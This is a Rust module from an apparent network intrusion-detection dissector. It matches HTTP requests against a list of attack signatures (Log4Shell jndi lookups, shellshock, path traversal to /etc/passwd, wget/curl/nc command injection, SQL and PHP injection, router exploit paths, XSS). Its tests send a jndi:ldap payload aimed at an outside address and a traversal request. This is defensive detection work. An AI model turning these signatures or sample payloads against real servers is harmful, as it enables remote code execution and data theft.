//! What a request tries: texts that belong to no honest request. Only the name of the attempt is kept.

use super::head::{Head, words};
use crate::protocol::{About, Sink};
use std::net::IpAddr;

/// Texts in lower case, and what they try. From the public descriptions of the weaknesses (CWE, MITRE ATT&CK T1190).
const ATTEMPTS: [(&[u8], &str); 34] = [
    (b"${jndi:", "jndi lookup"),
    (b"() { :;}", "shellshock"),
    (b"() { :; }", "shellshock"),
    (b"() { ignored", "shellshock"),
    (b"../../../", "path traversal"),
    (b"..%2f..%2f", "path traversal"),
    (b"%2e%2e/%2e%2e/", "path traversal"),
    (b"%2e%2e%2f%2e%2e%2f", "path traversal"),
    (b"..\\..\\..\\", "path traversal"),
    (b".%2e/.%2e/", "path traversal"),
    (b"/etc/passwd", "path traversal"),
    (b"/bin/sh", "command injection"),
    (b"/bin/bash", "command injection"),
    (b"wget+http", "command injection"),
    (b"wget%20http", "command injection"),
    (b";wget ", "command injection"),
    (b"`wget ", "command injection"),
    (b"$(wget", "command injection"),
    (b"curl+http", "command injection"),
    (b"|nc ", "command injection"),
    (b"chmod+777", "command injection"),
    (b"chmod%20777", "command injection"),
    (b"todo=syscmd", "command injection"),
    (b"union+select", "sql injection"),
    (b"union%20select", "sql injection"),
    (b"'%20or%20'1'='1", "sql injection"),
    (b"'+or+'1'='1", "sql injection"),
    (b"allow_url_include", "php injection"),
    (b"auto_prepend_file", "php injection"),
    (b"eval-stdin.php", "php injection"),
    (b"/gponform/diag_form", "router exploit"),
    (b"/ctrlt/deviceupgrade", "router exploit"),
    (b"<script>alert(", "cross-site scripting"),
    (b"%{(#", "expression injection"),
];

/// Notes what a request tries: in its address everything, in the rest of its head what strikes from any field.
pub(super) fn look(head: &Head<'_>, message: &[u8], sink: &mut Sink<'_>) {
    let told = |text: &[u8], attempts: &[(&[u8], &'static str)], sink: &mut Sink<'_>| {
        let lower = text.to_ascii_lowercase();
        // One pass for all: only where some mark's first character stands is the rest compared.
        let mut first = [false; 256];
        for (mark, _) in attempts {
            if let Some(slot) = mark.first().and_then(|byte| first.get_mut(usize::from(*byte))) {
                *slot = true;
            }
        }
        let mut found = 0u64;
        for (at, byte) in lower.iter().enumerate() {
            if first.get(usize::from(*byte)) == Some(&true) {
                let rest = lower.get(at..).unwrap_or(&[]);
                for (index, (mark, _)) in attempts.iter().enumerate() {
                    found |= u64::from(rest.starts_with(mark)) << index;
                }
            }
        }
        for (index, (_, name)) in attempts.iter().enumerate() {
            if found >> index & 1 == 1 {
                sink.put(About::Source, "http.attack", name, head.start);
            }
        }
    };
    // Cheap gates: each attempt has one of these signs, and honest requests to devices have few of them.
    let start = head.start.get(..1024).unwrap_or(head.start);
    if start.iter().any(|byte| matches!(byte, b'{' | b'%' | b'\\' | b'`' | b';' | b'\'' | b'+' | b'<' | b'|'))
        || start
            .windows(3)
            .any(|window| matches!(window, b"../" | b"/bi" | b"/et" | b"eva" | b"/gp" | b"/Gp" | b"/ct"))
    {
        told(start, &ATTEMPTS, sink);
    }
    let rest = message.get(start.len()..message.len().min(2048)).unwrap_or(&[]);
    if memchr::memchr(b'{', rest).is_some() {
        told(rest, ATTEMPTS.get(..4).unwrap_or(&[]), sink);
    }
}

/// A browser that posts to a bare address of the internet: people's pages have names.
pub(super) fn posts_to_address(head: &Head<'_>, sink: &mut Sink<'_>) {
    let (Some(host), Some(agent)) = (head.get(b"host"), head.get(b"user-agent")) else { return };
    let address = host.split(|byte| *byte == b':').next().unwrap_or(host);
    let address = std::str::from_utf8(address).ok().and_then(|text| text.parse::<IpAddr>().ok());
    // Ports that pages are served at prove nothing.
    let port = host.split(|byte| *byte == b':').nth(1);
    if matches!(port, None | Some(b"80" | b"443" | b"8080" | b"8443" | b"8000" | b"8888")) {
        return;
    }
    let public = address.is_some_and(holdfast_facts::is_public);
    if words(head.start).next() == Some(b"POST") && public && agent.starts_with(b"Mozilla/") {
        sink.text(About::Source, "http.posted_to_address", host);
    }
}

/// A program in an answer: whoever asked gets it.
pub(super) fn program(body: &[u8], sink: &mut Sink<'_>) {
    let kind = match body {
        [b'M', b'Z', rest @ ..] if rest.len() > 62 => "windows program",
        [0x7f, b'E', b'L', b'F', ..] => "linux program",
        _ => return,
    };
    sink.put(About::Destination, "http.program", kind, body.get(..2).unwrap_or(body));
}

#[cfg(test)]
mod tests {
    use super::super::super::test_support::{be_nasty, dissect, pdu};
    use super::super::super::{Direction, Transport};
    use super::super::DISSECTOR;

    #[test]
    fn attempts_are_named_and_honest_requests_are_not() {
        let request = |text: &'static [u8]| pdu(text, Transport::Tcp, Direction::ToServer, 40000, 80);
        let attack = |text| {
            dissect(&DISSECTOR, &request(text))
                .into_iter()
                .filter(|line| line.contains("http.attack"))
                .collect::<Vec<_>>()
        };
        assert_eq!(
            attack(b"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n\r\n"),
            ["source http.attack = jndi lookup"]
        );
        assert_eq!(
            attack(b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
            ["source http.attack = path traversal"]
        );
        let none: [String; 0] = [];
        assert_eq!(attack(b"GET /a/b?c=%20d+e HTTP/1.1\r\nHost: a\r\nUser-Agent: x (y; z)\r\n\r\n"), none);
        be_nasty(&DISSECTOR, &request(b"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n\r\n"));
    }
}
